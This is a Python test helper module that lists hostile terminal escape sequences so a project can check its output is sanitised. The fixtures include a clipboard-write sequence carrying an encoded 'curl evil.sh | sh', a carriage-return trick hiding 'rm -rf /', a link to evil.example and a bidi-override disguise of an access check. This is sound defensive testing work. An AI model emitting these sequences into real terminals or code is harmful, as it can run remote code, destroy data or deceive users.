"""What hostile models, tools and servers send, and what a terminal must never receive raw."""

from __future__ import annotations

import os
import re
from pathlib import Path

# Written out here, not imported from aforo: a character a terminal acts on. C0 controls but newline
# and tab (ESC, BEL, backspace, CR...), DEL, C1 controls (U+009B is a one-character CSI), bidi
# embeddings, overrides, isolates and marks.
TERMINAL_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

# What a hostile model, tool or server sends, each kind of sequence once.
HOSTILE = {
    "clear screen (CSI)": "\x1b[2J\x1b[H",
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hyperlink (OSC 8)": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 CSI": "\x9b31m",
    "lone ESC": "\x1b",
    "bell": "\x07",
    "backspace": "ok\x08\x08no",
    "carriage return overwrite": "rm -rf /\rls",
    "bidi override": "access = 'user\u202e \u2066// admin\u2069 \u2066'",
}
HOSTILE_TEXT = "Answer:\n\t" + "\n".join(HOSTILE.values()) + "\nEnd."


def raw_controls(text: str) -> list[str]:
    """The terminal-active characters in `text`, for a readable assertion message."""
    return sorted({repr(c) for c in TERMINAL_ACTIVE.findall(text)})


def write_user_config(text: str) -> Path:
    """The user's own config file (platformdirs puts it under XDG_CONFIG_HOME, set by conftest)."""
    path = Path(os.environ["XDG_CONFIG_HOME"]) / "aforo" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path
